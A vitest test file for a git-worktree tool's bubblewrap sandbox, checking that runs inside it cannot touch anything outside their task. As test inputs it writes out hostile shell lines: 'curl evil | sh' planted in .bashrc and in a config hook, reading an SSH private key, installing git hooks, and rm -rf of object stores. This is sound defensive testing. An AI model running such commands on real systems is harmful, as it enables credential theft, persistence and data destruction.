// Sandboxed runs (docs/sandbox.md): from inside, everything outside the task fails and leaves
// the real repositories byte for byte as they were; inside, git works as usual, and what the
// run committed is on its branches afterwards. Real bubblewrap, real git, the built CLIs.
import { existsSync, readdirSync, readFileSync, realpathSync } from "node:fs";
import { join } from "node:path";
import { Ajv2020 } from "ajv/dist/2020.js";
import { afterEach, expect, it } from "vitest";
import { DEFAULT_HIDDEN } from "../packages/core/src/sandbox/settings.ts";
import { arielIn, REPO_ROOT } from "./helpers/cli.ts";
import { git, writeFile } from "./helpers/git.ts";
import {
  addTask,
  cleanWorlds,
  describeSandbox,
  records,
  type SandboxWorld,
  sandboxWorld,
  script,
  statuses,
  untouchable,
} from "./sandbox_helpers.ts";
import { legPath, picture, wt } from "./worktree-fixtures.ts";

/** The default hidden paths outside home that exist on this machine (sockets of /run). */
function systemHidden(): string[] {
  return DEFAULT_HIDDEN.filter((p) => p.startsWith("/") && existsSync(p)).map((p) => realpathSync(p));
}

afterEach(cleanWorlds);

function spawn(w: SandboxWorld, args: readonly string[]) {
  return arielIn("spawn", w.root, args, { env: w.env, timeoutMs: 120_000 });
}

/** Each forbidden action, run inside as `name`; its status printed as `name rc=N`. */
const FORBIDDEN = (root: string) => `
try() { name=$1; shift; "$@" >/dev/null 2>&1; echo "$name rc=$?"; }
try write-other-source sh -c 'echo x > ${root}/web/evil'
try write-user-checkout sh -c 'echo x > ${root}/api/evil'
try write-other-task sh -c 'echo x > ${root}/.ariel/worktrees/other/api/evil'
try write-home sh -c 'echo x > "$HOME/evil"'
try write-bashrc sh -c 'echo "curl evil | sh" >> "$HOME/.bashrc"'
try update-ref-main git update-ref refs/heads/main HEAD~1
try branch-f-main git branch -f main HEAD~1
try branch-f-side git branch -f side HEAD
try tag-d git tag -d v1
try config-hookspath git config core.hooksPath /tmp/x
try write-pre-commit sh -c 'echo "#!/bin/sh" > "$(git rev-parse --git-common-dir)/hooks/pre-commit"'
try write-info-exclude sh -c 'echo x >> "$(git rev-parse --git-common-dir)/info/exclude"'
try rm-object-store rm -rf "$(git rev-parse --git-common-dir)/ariel-real-objects"
try read-ssh-key cat "$HOME/.ssh/id_ed25519"
try worktree-prune git worktree prune
try gc-prune-now git gc --prune=now
try rm-private-objects rm -rf "$(git rev-parse --git-common-dir)/objects"
try real-update-ref git --git-dir=${root}/api/.git update-ref refs/heads/main HEAD~1
try real-branch-f git --git-dir=${root}/api/.git branch -f main HEAD~1
try real-tag-d git --git-dir=${root}/api/.git tag -d v1
try real-config git --git-dir=${root}/api/.git config core.hooksPath /tmp/x
try real-pre-commit sh -c 'echo "#!/bin/sh" > ${root}/api/.git/hooks/pre-commit'
try real-packed-refs sh -c 'echo x >> ${root}/api/.git/packed-refs'
try real-other-admin sh -c 'echo x > ${root}/api/.git/worktrees/other/HEAD'
try real-worktree-prune git --git-dir=${root}/api/.git worktree prune
try real-gc-prune git --git-dir=${root}/api/.git gc --prune=now
try rm-real-objects rm -rf ${root}/api/.git/objects
try rm-web-objects rm -rf ${root}/web/.git/objects
try write-run-state sh -c 'echo x > ${root}/.ariel/evil'
`;

describeSandbox("ariel-spawn --sandbox", () => {
  it("from inside, everything outside the task fails, and the real repositories stay byte for byte as they were", async () => {
    const w = sandboxWorld();
    await addTask(w, "other", ["api"]);
    await addTask(w, "t1", ["api"]);
    const leg = legPath(w.root, "t1", "api");
    const before = untouchable(w, [leg]);
    const sh = script(w, "forbidden.sh", FORBIDDEN(w.root));
    const r = await spawn(w, ["--sandbox", "--isolate", "--task", "t1", "--source", "api", "--", "sh", sh]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
    const rc = statuses(r.stdout);
    // Each of these fails inside …
    for (const name of [
      "write-other-source",
      "write-user-checkout",
      "write-other-task",
      "write-home",
      "write-bashrc",
      "update-ref-main",
      "branch-f-main",
      "branch-f-side",
      "tag-d",
      "config-hookspath",
      "write-pre-commit",
      "write-info-exclude",
      "rm-object-store",
      "read-ssh-key",
      "real-update-ref",
      "real-branch-f",
      "real-tag-d",
      "real-config",
      "real-pre-commit",
      "real-other-admin",
      "rm-web-objects",
      "write-run-state",
    ]) {
      expect([name, rc[name]]).not.toEqual([name, 0]);
      expect(rc[name]).toBeTypeOf("number");
    }
    // … these succeed on the sandbox's own copy only (inside, the repository's git dir is its
    // shadow, so the real path names the copy) …
    expect(
      ["worktree-prune", "gc-prune-now", "rm-private-objects", "real-packed-refs", "rm-real-objects"].map(
        (n) => rc[n],
      ),
    ).toEqual([0, 0, 0, 0, 0]);
    // … and these ran, whatever git answered there.
    for (const name of ["real-worktree-prune", "real-gc-prune"]) expect(rc[name]).toBeTypeOf("number");
    // Nothing outside changed: refs, config, hooks, other worktrees, other sources, home.
    expect(untouchable(w, [leg])).toEqual(before);
    expect(readdirSync(join(w.root, ".ariel/sandbox"))).toEqual([]);
    expect(git(w.api, "fsck", "--no-dangling")).toBe("");
  });

  it("git works inside in every leg (--span): commit, amend, stash and pop, a new branch, rebase; afterwards the branches hold the commits, each leg is as the run left it, and land brings them home", async () => {
    const w = sandboxWorld();
    const sh = script(
      w,
      "work.sh",
      `set -e
cd "$ARIEL_WORKTREE/api"
echo "edited in the sandbox" >> README.md && git add README.md && git commit -qm "api: edit"
git commit -q --amend -m "api: edit (amended)"
git switch -qc feature && echo f > f.txt && git add f.txt && git commit -qm "api: feature" && git switch -q ariel/t2
echo after > after.txt && git add after.txt && git commit -qm "api: after"
git rebase -q ariel/t2 feature && git switch -q ariel/t2
echo "more" >> README.md && git stash -q && git stash pop -q
test "$(git status --porcelain)" = " M README.md"
cd "$ARIEL_WORKTREE/web"
echo "edited" >> src/main.txt && git commit -qam "web: edit"
echo "left uncommitted" > notes.txt
echo done rc=0
`,
    );
    const r = await spawn(w, [
      "--sandbox",
      "--isolate",
      "--span",
      "--keep",
      "--task",
      "t2",
      "--source",
      "api",
      "--source",
      "web",
      "--",
      "sh",
      sh,
    ]);
    expect(statuses(r.stdout)).toEqual({ done: 0 });
    expect(r.code).toBe(0);
    expect(git(w.api, "log", "--format=%s", "ariel/t2", "-3")).toBe(
      "api: after\napi: edit (amended)\nsecond",
    );
    // rebased inside onto the branch's new tip
    expect(git(w.api, "log", "--format=%s", "feature", "-3")).toBe(
      "api: feature\napi: after\napi: edit (amended)",
    );
    expect(git(w.web, "log", "--format=%s", "ariel/t2", "-1")).toBe("web: edit");
    expect(git(legPath(w.root, "t2", "api"), "status", "--porcelain")).toBe("M README.md");
    expect(git(legPath(w.root, "t2", "web"), "status", "--porcelain")).toBe("?? notes.txt");
    expect(git(w.api, "fsck", "--no-dangling")).toBe("");
    git(legPath(w.root, "t2", "api"), "checkout", "--", "README.md");
    const land = await wt(w.root, ["land", "--task", "t2"], { env: w.env });
    expect([land.code, land.stderr]).toEqual([
      0,
      "ariel-worktree: warning: web: 1 uncommitted path(s) in the leg were not landed\n",
    ]);
    for (const repo of [w.api, w.web]) {
      expect(git(repo, "rev-list", "main").split("\n")).toContain(git(repo, "rev-parse", "ariel/t2"));
    }
  });

  it("in place: the checkout is writable, its own branch moves, other refs do not", async () => {
    const w = sandboxWorld();
    const sh = script(
      w,
      "inplace.sh",
      `echo in-place >> README.md; git commit -qam "in place"; echo "commit rc=$?"
git tag -d v1 >/dev/null 2>&1; echo "tag-d rc=$?"
echo staged > staged.txt; git add staged.txt; echo "add rc=$?"
`,
    );
    const r = await spawn(w, ["--sandbox", "--source", "api", "--", "sh", sh]);
    const rc = statuses(r.stdout);
    expect([rc.commit, rc.add, r.code]).toEqual([0, 0, 0]);
    expect(rc["tag-d"]).not.toBe(0);

    expect(git(w.api, "log", "--format=%s", "-1")).toBe("in place");
    expect(git(w.api, "tag")).toBe("v1");
    expect(git(w.api, "status", "--porcelain")).toBe("A  staged.txt");
    expect(readFileSync(join(w.api, "README.md"), "utf8")).toBe("# api\nin-place\n");
  });

  it("in place in the checkout at the workspace root: its config and .ariel/ are out of the run's reach", async () => {
    const w = sandboxWorld();
    const root = w.api; // a checkout: the workspace is its top level
    writeFile(join(root, "ariel.config.json"), "{}\n");
    git(root, "add", "ariel.config.json");
    git(root, "commit", "-q", "-m", "config");
    const r = await arielIn(
      "spawn",
      root,
      [
        "--sandbox",
        "--",
        "sh",
        "-c",
        `echo '{"hooks": {"post-create": "curl evil | sh"}}' > ariel.config.json 2>/dev/null; echo "config rc=$?"
ls .ariel >/dev/null 2>&1 && echo "state rc=$(ls .ariel | grep -c runs)"; echo x > .ariel/x 2>/dev/null; echo "state-write rc=$?"
echo kept > notes.txt; echo "write rc=$?"`,
      ],
      { env: w.env },
    );
    expect(statuses(r.stdout)).toEqual({ config: 2, state: 0, "state-write": 2, write: 0 });
    expect(readFileSync(join(root, "ariel.config.json"), "utf8")).toBe("{}\n");
    expect(readFileSync(join(root, "notes.txt"), "utf8")).toBe("kept\n");
  });

  it("its object store is not trusted: a forged object, or one behind a link into its worktree, never reaches the real store, and the branch does not move", async () => {
    const w = sandboxWorld();
    const sh = script(
      w,
      "forge.sh",
      `set -e
echo forged > forged.txt && git add forged.txt && git commit -qm forged
obj=$(git rev-parse HEAD)
store="$(git rev-parse --git-common-dir)/objects"
d=$(echo "$obj" | cut -c1-2); f=$(echo "$obj" | cut -c3-)
# the commit's file moved into the worktree, its directory now a link to it
mkdir -p objs && mv "$store/$d" "objs/$d" && ln -s "$PWD/objs/$d" "$store/$d"
# and an object whose name is not its content's
blob=$(echo payload | git hash-object -w --stdin)
bd=$(echo "$blob" | cut -c1-2); bf=$(echo "$blob" | cut -c3-)
chmod u+w "$store/$bd/$bf"; cp "$store/$d/$f" "$store/$bd/$bf"
echo "$obj $blob"
`,
    );
    await addTask(w, "t3", ["api"]);
    const before = git(w.api, "rev-parse", "ariel/t3");
    const r = await spawn(w, [
      "--sandbox",
      "--isolate",
      "--keep",
      "--task",
      "t3",
      "--source",
      "api",
      "--json",
      "--",
      "sh",
      sh,
    ]);
    expect(r.code).toBe(0);
    const out = records(r.stdout).find((e) => e.event === "output")?.line as string;
    const [commit, blob] = out.split(" ");
    const synced = records(r.stdout).find((e) => e.event === "sandbox.synced") as {
      repos: { missing: unknown[]; unsound?: string[] }[];
    };
    expect(synced.repos[0]!.missing).toEqual([{ ref: "refs/heads/ariel/t3", to: commit }]);
    expect(synced.repos[0]!.unsound).toEqual([blob]);
    expect(git(w.api, "rev-parse", "ariel/t3")).toBe(before);
    for (const oid of [commit!, blob!]) {
      expect(existsSync(join(w.api, ".git/objects", oid.slice(0, 2), oid.slice(2)))).toBe(false);
    }
    expect(r.stderr).toContain("WARN_SANDBOX_BROKEN_REF");
    // The repository itself is whole; only the task's own worktree still points at what its run broke.
    expect(
      git(w.api, "fsck", "--no-dangling", "--no-reflogs", "--connectivity-only", "main", "ariel/t3"),
    ).toBe("");
  });

  it("--dry-run prints the sandbox of each run from the same plan: what it may write, what it hides, its network", async () => {
    const w = sandboxWorld();
    const before = picture(w.root);
    const r = await spawn(w, [
      "-n",
      "--json",
      "--sandbox",
      "--sandbox-net",
      "none",
      "--source",
      "api",
      "--",
      "true",
    ]);
    expect(r.code).toBe(0);
    const [plan] = records(r.stdout);
    expect(plan).toMatchObject({
      type: "plan",
      action: "spawn.run",
      source: "api",
      sandbox: { write: [w.api], hide: [join(w.home, ".ssh"), ...systemHidden()], net: "none" },
    });
    for (const detach of [[], ["--detach"]]) {
      const text = await spawn(w, [
        "-n",
        ...detach,
        "--sandbox",
        "--sandbox-net",
        "none",
        "--source",
        "api",
        "--",
        "true",
      ]);
      expect(text.code).toBe(0);
      const lines = text.stdout.split("\n");
      const at = lines.indexOf("sandbox of api: network none");
      expect(lines.slice(at, at + 3)).toEqual([
        "sandbox of api: network none",
        `  write ${w.api}`,
        `  hide  ${join(w.home, ".ssh")}`,
      ]);
    }
    expect(picture(w.root)).toEqual(before);
  });

  it("--json: every event of a sandboxed run, sandbox.synced too, is what docs/schema/event.schema.json says", async () => {
    const w = sandboxWorld();
    const r = await spawn(w, [
      "--json",
      "--sandbox",
      "--isolate",
      "--keep",
      "--task",
      "t1",
      "--source",
      "api",
      "--",
      "sh",
      "-c",
      "git commit -q --allow-empty -m inside",
    ]);
    expect(r.code).toBe(0);
    const ajv = new Ajv2020({ strict: false, allErrors: true });
    const validate = ajv.compile(
      JSON.parse(readFileSync(join(REPO_ROOT, "docs/schema/event.schema.json"), "utf8")),
    );
    const events = r.stdout
      .trim()
      .split("\n")
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    const synced = events.find((e) => e.event === "sandbox.synced") as {
      repos: { moved: { ref: string }[] }[];
    };
    expect(synced.repos[0]!.moved.map((m) => m.ref)).toEqual(["refs/heads/ariel/t1"]);
    const valid = (e: unknown): boolean => validate(e) === true;
    expect(events.flatMap((e) => (valid(e) ? [] : [[e.event, ajv.errorsText(validate.errors)]]))).toEqual([]);
  });
});
